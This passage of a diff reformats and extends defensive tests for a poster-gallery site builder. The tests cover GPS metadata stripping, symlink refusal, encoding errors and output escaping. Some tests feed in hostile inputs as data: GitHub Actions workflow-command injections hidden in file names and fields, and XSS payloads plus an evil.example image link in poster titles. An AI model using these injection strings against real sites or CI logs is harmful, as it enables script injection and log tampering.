+        cwd=repo,
+        capture_output=True,
+        text=True,
+    )
     not_ignored = [line.split("\t")[1] for line in proc.stdout.splitlines() if line.startswith("::")]
     assert not_ignored == []
 
@@ -703,9 +828,11 @@ def _with_xmp_location(path: Path) -> None:
 
     out = io.BytesIO()
     Image.new("RGB", (240, 340), (30, 120, 90)).save(out, "JPEG")
-    xmp = (b'http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf='
-           b'"http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/"'
-           b' exif:GPSLatitude="6,10.5S" exif:GPSLongitude="106,49.0E"/></rdf:RDF></x:xmpmeta>')
+    xmp = (
+        b'http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf='
+        b'"http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/"'
+        b' exif:GPSLatitude="6,10.5S" exif:GPSLongitude="106,49.0E"/></rdf:RDF></x:xmpmeta>'
+    )
     data = out.getvalue()
     path.write_bytes(data[:2] + b"\xff\xe1" + (len(xmp) + 2).to_bytes(2, "big") + xmp + data[2:])
 
@@ -726,14 +853,19 @@ def test_a_poster_file_that_records_where_it_was_taken_is_never_offered_as_it_is
         names = sorted(p.name for p in (docs / slug).iterdir())
         assert not [n for n in names if n.startswith(slug + ".")], names  # no copy of the original
         zoom = next(n for n in names if n.startswith("zoom."))  # the large image is offered instead
-        assert f'href="{zoom}" download="{slug}.jpg">Download the poster as a large image (JPG, 240 × 340 px, ' \
+        assert (
+            f'href="{zoom}" download="{slug}.jpg">Download the poster as a large image (JPG, 240 × 340 px, '
             in (docs / slug / "index.md").read_text()
+        )
         for name in names:
             if name.endswith((".jpg", ".webp")):
                 with Image.open(docs / slug / name) as image:
                     assert not image.getexif().get_ifd(0x8825) and b"GPS" not in image.info.get("xmp", b""), name
     assert (docs / "plain" / "plain.jpg").is_file()
-    assert 'href="plain.jpg" download="plain.jpg">Download the original poster (JPG, ' in (docs / "plain/index.md").read_text()
+    assert (
+        'href="plain.jpg" download="plain.jpg">Download the original poster (JPG, '
+        in (docs / "plain/index.md").read_text()
+    )
     site = project.mkdocs("build", "--strict")
     assert site.returncode == 0, site.stderr
     for path in (project.root / "site").rglob("*"):  # nothing published anywhere says where a photo was taken
@@ -761,8 +893,10 @@ def test_published_results_are_never_read_through_a_link(project, tmp_path, link
         (results / Path(link).name).unlink()
         os.symlink(outside / Path(link).name, results / Path(link).name)
     result = project.build()
-    assert messages(result) == [f"{link}: this is a link (symlink) to another place; the results are published only "
-                                "from the files themselves, so replace the link with the file."]
+    assert messages(result) == [
+        f"{link}: this is a link (symlink) to another place; the results are published only "
+        "from the files themselves, so replace the link with the file."
+    ]
     published = project.root / "docs/results"
     assert not published.exists() or "secret" not in "".join(p.read_text() for p in published.iterdir())
 
@@ -774,10 +908,12 @@ def test_results_page_not_in_utf8_is_a_problem_not_a_traceback(project):
     (project.root / "results/results.md").write_bytes("# Hasil pemungutan suara: Caf\xe9\n".encode("cp1252"))
     assert messages(project.build()) == [
         "results/results.md: results.md is not saved as UTF-8 text; save it again with the UTF-8 encoding (in "
-        "Notepad: File > Save As > Encoding: UTF-8)."]
+        "Notepad: File > Save As > Encoding: UTF-8)."
+    ]
 
 
 # ------------------------------------------------------------- the CI log ---
+
 
 def test_no_name_or_value_can_start_a_workflow_command_in_the_ci_log(project):
     """GitHub Actions runs any output line starting with '::' (add-mask, stop-commands, fake annotations)."""
@@ -785,8 +921,10 @@ def test_no_name_or_value_can_start_a_workflow_command_in_the_ci_log(project):
     folder = project.add_poster("good")
     (folder / "second\n::stop-commands::token.jpg").write_bytes(b"\xff\xd8\xff")
     project.add_poster("bad-role", GOOD_POSTER.replace("role: alumni", 'role: "x\\n::warning::fake"'))
-    outputs = [gallery_cli(project, *args) for args in (("check",), ("check", "--format", "github"),
-                                                        ("build", "--format", "github"))]
+    outputs = [
+        gallery_cli(project, *args)
+        for args in (("check",), ("check", "--format", "github"), ("build", "--format", "github"))
+    ]
     outputs.append(project.mkdocs("build"))
     for proc in outputs:
         lines = (proc.stdout + proc.stderr).splitlines()
@@ -802,11 +940,14 @@ def test_the_pull_request_summary_shows_hostile_posters_as_plain_text():
     from postergallery.commands.changes import ADDED, PosterChange, PosterDetails, render_summary
     from postergallery.model import Problem
 
-    title = '<img src=x onerror=alert(1)> [klik](javascript:alert(2)) | ![x](https://evil.example/t)'
-    details = PosterDetails(title=title, authors=("<script>", "a|b", "`c`"), role="<b>alumni</b>", center="*C* {{x}} &amp;")
+    title = "<img src=x onerror=alert(1)> [klik](javascript:alert(2)) | ![x](https://evil.example/t)"
+    details = PosterDetails(
+        title=title, authors=("<script>", "a|b", "`c`"), role="<b>alumni</b>", center="*C* {{x}} &amp;"
+    )
     problem = Problem("posters/x/poster.yml", 3, 1, "'role' is '<b>x</b>' [y](javascript:z)")
-    text = render_summary([PosterChange("x", ADDED, details, (problem,))], [], "posters", EN,
-                          preview="javascript:alert(3)")
+    text = render_summary(
+        [PosterChange("x", ADDED, details, (problem,))], [], "posters", EN, preview="javascript:alert(3)"
+    )
     row = next(line for line in text.splitlines() if line.startswith("| ➕"))
     assert len(re.findall(r"(?<!\\)\|", row)) == 7  # six cells: no pipe from the poster splits the table
     assert not re.search(r"(?<!\\)<[a-z/]", text.replace("<br>", ""))  # no HTML tag but the table's line break
